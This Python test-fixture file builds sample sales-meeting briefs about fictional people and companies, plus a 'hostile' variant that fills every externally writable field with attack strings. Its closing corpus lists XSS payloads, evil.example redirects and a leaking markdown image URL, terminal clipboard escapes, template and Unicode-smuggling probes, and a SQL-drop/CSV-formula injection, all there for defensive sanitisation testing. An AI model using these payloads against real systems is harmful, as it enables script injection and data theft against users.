"""Briefs to show: a rich one, and the same with something hostile wherever text from outside can stand."""

from datetime import UTC, date, datetime
from uuid import NAMESPACE_URL, uuid5

from activities.plain import clean
from schemas.briefs import (
    Brief,
    BriefGap,
    BriefSubject,
    Candidate,
    Changes,
    Claim,
    Confidence,
    Evidence,
    Identity,
    Nature,
    Section,
    Topic,
)

TENANT = "5a3d1c1e-0000-4000-8000-000000000001"
OTHER_TENANT = "5a3d1c1e-0000-4000-8000-00000000000b"
WRITTEN = datetime(2026, 11, 22, 15, 29, tzinfo=UTC)


def row(name: str) -> str:
    """The same id for the same name, in every run."""
    return str(uuid5(NAMESPACE_URL, name))


PEOPLE = (
    BriefSubject(
        id=row("ada"),
        kind="person",
        name="Ada Lovelace",
        detail="Chief Analytics Officer, Lovelace Analytics",
        identity=Identity.CONFIRMED,
    ),
    BriefSubject(
        id=row("tomas"),
        kind="person",
        name="Tomas Okafor",
        detail="Director of Operations, Brightwater Logistics",
        identity=Identity.PROBABLE,
    ),
    BriefSubject(id=row("mei"), kind="person", name="Mei Tanaka", detail="gmail.com", identity=Identity.NOT_FOUND),
)
COMPANIES = (
    BriefSubject(id=row("lovelace"), kind="company", name="Lovelace Analytics", detail="lovelace.example"),
    BriefSubject(id=row("brightwater"), kind="company", name="Brightwater Logistics", detail="brightwater.example"),
)

# Of whom, the sentence, its quote, the page, its title and day.
FACTS = (
    (
        "ada",
        "Leads a modelling group of twenty-two people and sits on the product council.",
        "She leads the modelling group of twenty-two people and sits on the product council",
        "https://www.lovelace.example/team/ada",
        "Ada Lovelace, Chief Analytics Officer",
        date(2026, 9, 25),
    ),
    (
        "ada",
        "Gave the closing talk of the Forecast Forum in Leeds on 13 November 2026.",
        "Ada Lovelace gave the closing talk of the Forecast Forum in Leeds on 13 November 2026",
        "https://www.forecastforum.example/talks/fail-quietly",
        "Forecasts fail quietly",
        date(2026, 11, 13),
    ),
    (
        "ada",
        "Wants a first useful forecast within ten working days, where it now takes six weeks.",
        "Ada Lovelace wants a new customer to see a first useful forecast within ten working days",
        "https://www.retailplanner.example/interviews/ada",
        "Onboarding is the product now",
        date(2026, 10, 30),
    ),
    (
        "ada",
        "Studied statistics, then spent six years as a demand planner at a grocery chain.",
        "studied statistics at the University of the Severn and then spent six years as a demand planner",
        "https://www.severnalumni.example/people/ada",
        "Where are they now?",
        None,
    ),
    (
        "tomas",
        "Still corrects a fifth of the routes by telephone each night.",
        "Brightwater Logistics still corrects a fifth of its routes by telephone each night",
        "https://www.freightgazette.example/interviews/okafor",
        "We plan at midnight",
        date(2026, 11, 3),
    ),
    (
        "tomas",
        "Spoke in Malmo on 16 October 2026 about rosters that drivers would choose themselves.",
        "spoke on a panel at the Cold Chain Days in Malmo on 16 October 2026 about rosters",
        "https://www.coldchaindays.example/programme/rosters",
        "Rosters that drivers would choose",
        date(2026, 10, 16),
    ),
    (
        "tomas",
        "Was named on the shortlist for the regional operations award.",
        "Tomas Okafor of Brightwater Logistics was named on 16 November 2026 on the shortlist",
        "https://www.freightgazette.example/awards?year=2026&list=short",
        "Shortlist",
        date(2026, 11, 16),
    ),
    (
        "lovelace",
        "Raised 14 million euros in a Series A round led by Harbour Row Ventures.",
        "Lovelace Analytics raised 14 million euros in a Series A round led by Harbour Row Ventures",
        "https://www.capitalcolumn.example/lovelace",
        "Lovelace closes a Series A",
        date(2026, 10, 19),
    ),
    (
        "lovelace",
        "Opened an office in Rotterdam with nine people.",
        "opened an office in Rotterdam on 10 November 2026 to be close to Dutch food distributors",
        "https://www.portlogisticsdaily.example/lovelace-rotterdam",
        "Lovelace opens office",
        date(2026, 11, 10),
    ),
    (
        "brightwater",
        "Employs 640 people, of whom 410 drive.",
        "Brightwater Logistics employs 640 people, of whom 410 drive",
        "https://www.freightgazette.example/rankings",
        "The fifty largest chilled hauliers",
        date(2026, 8, 29),
    ),
    (
        "brightwater",
        "Pays four percent of a load's price when it misses its slot by an hour.",
        "A load that misses its slot by an hour will cost the haulier four percent of its price",
        "https://www.grocerwire.example/news/late",
        "Supermarkets charge for late loads",
        date(2026, 10, 26),
    ),
)
ADVICE = (
    (Section.HEADLINE, Nature.ASSESSMENT, "Lovelace has fresh money and a slow start for customers.", (2, 7)),
    (Section.FIT, Nature.ASSESSMENT, "Brightwater is the customer this campaign describes.", (9,)),
    (
        Section.TALKING_POINTS,
        Nature.RECOMMENDATION,
        "Open with the talk in Leeds, then ask about the six weeks.",
        (1, 2),
    ),
    (Section.TALKING_POINTS, Nature.RECOMMENDATION, "Offer Tomas the night shift's telephone hour back.", (4,)),
    (Section.QUESTIONS, Nature.RECOMMENDATION, "What happens to the roster when a forecast is wrong?", (5,)),
    (Section.RISKS, Nature.ASSESSMENT, "Planners who built their own tool may want to keep it.", (3, 4, 9)),
)


def rich() -> Brief:
    """Three people, two companies, gaps, and something refused."""
    evidence = tuple(_evidence(number, *fact) for number, fact in enumerate(FACTS))
    facts = tuple(_fact(number, *fact) for number, fact in enumerate(FACTS))
    return Brief(
        id=row("brief"),
        research_id=row("research"),
        version=2,
        title="Introduction: planning at Lovelace Analytics and Brightwater Logistics",
        starts_at=datetime(2026, 11, 23, 15, 0, tzinfo=UTC),
        campaign="Forecasting for logistics",
        confidence=Confidence.LOW,
        reasons=("nothing usable about Mei Tanaka", "Tomas Okafor is only probably the person found"),
        what_changed="4 new facts since you last met.",
        changes=Changes(
            last_met_at=datetime(2026, 10, 31, 23, 30, tzinfo=UTC),
            compared_with=row("earlier brief"),
            new_claims=tuple(row(f"fact {fact}") for fact in (6, 1, 8, 4)),
            new_people=(row("mei"),),
        ),
        subjects=PEOPLE + COMPANIES,
        claims=(*facts, *(_advice(number, *said) for number, said in enumerate(ADVICE))),
        evidence=evidence,
        gaps=(
            BriefGap(subject_id=row("mei"), about="Mei Tanaka", reason="looked, and found nothing"),
            BriefGap(about="brightwater.example", reason="the look-up took too long and was left"),
        ),
        dropped={"quote not in its evidence": 2, "rests on no checked fact": 1},
        cost_micro_usd=102_507,
        model="claude-sonnet-5-5",
        sandbox=True,
        written_at=WRITTEN,
        time_zone="Europe/Berlin",
    )


def _evidence(number: int, who: str, text: str, quote: str, url: str, title: str, day: date | None) -> Evidence:
    return Evidence(
        id=row(f"evidence {number}"),
        subject_id=row(who),
        url=url,
        title=title,
        text=f"{text} {quote}.",
        published=day,
        fetched_at=WRITTEN,
    )


def _fact(number: int, who: str, text: str, quote: str, _url: str, _title: str, day: date | None) -> Claim:
    return Claim(
        id=row(f"fact {number}"),
        section=Section.COMPANY if who in {"lovelace", "brightwater"} else Section.PEOPLE,
        nature=Nature.FACT,
        text=text,
        subject_id=row(who),
        as_of=day,
        evidence_id=row(f"evidence {number}"),
        quote=quote,
    )


def _advice(number: int, section: Section, nature: Nature, text: str, facts: tuple[int, ...]) -> Claim:
    rests_on = tuple(row(f"fact {fact}") for fact in facts)
    return Claim(id=row(f"advice {number}"), section=section, nature=nature, text=text, rests_on=rests_on)


def changed(gaps: tuple[BriefGap, ...] | None = None, **changes: object) -> Brief:
    """The rich brief with something else that changed."""
    brief = rich()
    update = {"changes": brief.changes.model_copy(update=changes), "gaps": brief.gaps if gaps is None else gaps}
    return brief.model_copy(update=update)


JORDANS = (
    Candidate(
        name="Jordan Ellis", job_title="Procurement Manager", employer="Carrow Hospitals", location="Norwich, England"
    ),
    Candidate(name="Jordan Ellis", job_title="Drummer, teacher", employer="Quartier Jazz School", location="Montreal"),
    Candidate(name="Jordan Ellis-Whitcombe", employer="Blue Boiler"),
)


def doubtful() -> Brief:
    """The rich brief with what is in doubt: sources that disagree, what is old, somebody who could be anybody."""
    brief = rich()
    jordan = BriefSubject(
        id=row("jordan"), kind="person", name="Jordan Ellis", identity=Identity.AMBIGUOUS, candidates=JORDANS
    )
    other = ("brightwater", "Employs 720 people after the depot in Halvik.", "employs 720 people after the depot")
    # Another fact of a page that is quoted already, and one that has been true for long.
    more = (
        ("ada", "Sat on the product council before.", "sits on the product council", *FACTS[0][3:5], date(2024, 9, 25)),
    )
    facts = [
        _fact(20, *other, "", "", date(2026, 11, 2)).model_copy(update={"topic": Topic.SIZE}),
        _fact(21, *more[0]).model_copy(
            update={"current": False, "topic": Topic.ROLE, "evidence_id": row("evidence 21")}
        ),
        _fact(0, *FACTS[0]).model_copy(update={"id": row("fact 22"), "text": "Sits on the product council."}),
    ]
    pages = (
        _evidence(20, *other, "https://www.register.example/brightwater", "Register of employers", date(2026, 11, 2)),
        _evidence(21, *more[0]),
    )
    old = Claim(
        id=row("advice 20"),
        section=Section.FIT,
        nature=Nature.ASSESSMENT,
        text="Knows how products are decided on.",
        current=False,
        rests_on=(row("fact 21"),),
    )
    return brief.model_copy(
        update={
            "subjects": (*PEOPLE, jordan, *COMPANIES),
            "claims": (*brief.claims[: len(FACTS)], *facts, *brief.claims[len(FACTS) :], old),
            "evidence": (*brief.evidence, *pages),
            "conflicts": ((row("fact 9"), row("fact 20")),),
            "economies": ("2 of 6 people were not looked up", "a smaller model wrote this"),
            "reasons": (*brief.reasons, "sources disagree about the size of Brightwater Logistics"),
        }
    )


def hostile(text: str) -> Brief:
    """The doubtful brief with this text in every field that anybody outside can write to."""
    brief = doubtful()
    return brief.model_copy(
        update={
            "title": text,
            "campaign": text,
            "reasons": (text, text),
            "what_changed": text,
            "dropped": {text: 1},
            "model": text,
            "subjects": tuple(
                one.model_copy(update={"name": text, "detail": text, "candidates": _hostile(one.candidates, text)})
                for one in brief.subjects
            ),
            "economies": (text, text),
            "claims": tuple(
                one.model_copy(update={"text": text, "quote": text if one.quote else None}) for one in brief.claims
            ),
            "evidence": tuple(
                one.model_copy(update={"url": text, "title": text, "text": text}) for one in brief.evidence
            ),
            "gaps": tuple(gap.model_copy(update={"about": text, "reason": text}) for gap in brief.gaps),
        }
    )


def _hostile(candidates: tuple[Candidate, ...], text: str) -> tuple[Candidate, ...]:
    return tuple(Candidate(name=text, job_title=text, employer=text, location=text) for _ in candidates)


# Each with what it tries.
CORPUS = {
    "script": "<script>document.title='owned'</script>",
    "closed script": "</title></style></script><script>document.title='owned'</script>",
    "handler": '"><img src=x onerror="document.title=\'owned\'">',
    "svg": "<svg/onload=\"document.title='owned'\"><iframe src=//evil.example></iframe>",
    "style": "</style><style>@import 'http://evil.example/x.css';</style>",
    "base": '<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example">',
    "markdown picture": "![x](http://evil.example/x.png?leak) <http://evil.example/auto>",
    "markdown link": "[click](javascript:alert(1)) [ref][1]\n\n[1]: http://evil.example 'x'",
    "markdown block": "x\n\n# heading\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n> quote",
    "bare address": "http://evil.example/?q=1 www.evil.example somebody@evil.example evil.example",
    "script address": "javascript:document.title='owned'",
    "data address": "data:text/html,<script>document.title='owned'</script>",
    "quoted address": 'https://evil.example/" onmouseover="document.title=1" x="',
    "broken address": "https://evil.example/><script>document.title='owned'</script>",
    "user address": "https://bank.example@evil.example/",
    "escapes": "\x1b]52;c;ZXZpbA==\x07\x1b[31mred\x1b[2J\x9b31m",
    "template": "{{7*7}} ${7*7} {% raw %} #{7*7} <%= 7*7 %>",
    "turned": "\u202ecod.exe\u202c \u2066a\u2069 \u200bz\u200d\ufeff",
    "tags": "hi\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\ufe0f\U000e0100",
    "long word": "W" * 10_000,
    "ampersands": "&lt;script&gt; &#60;img&#62; &amp;amp; &quot;",
    "sql and csv": "'; DROP TABLE briefs; -- =cmd|' /C calc'!A0",
    "first in line": "- 1. + # = > | 12) x",
    "nothing": "",
}


def shortened(text: str) -> str:
    """What a title or a name is shown as."""
    plain = clean(text, 2000)
    return plain if len(plain) <= 160 else plain[:159].rstrip() + "…"
